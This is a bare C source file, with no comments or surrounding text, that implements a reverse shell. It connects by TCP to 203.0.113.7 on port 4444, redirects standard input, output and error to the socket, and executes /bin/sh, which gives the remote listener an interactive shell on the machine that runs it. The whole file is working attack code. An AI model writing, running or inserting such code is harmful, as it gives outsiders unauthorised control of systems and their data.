#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(4444);
    inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);
    connect(s, (struct sockaddr *)&a, sizeof a);
    for (int fd = 0; fd < 3; fd++) dup2(s, fd);
    execl("/bin/sh", "sh", NULL);
    return 0;
}
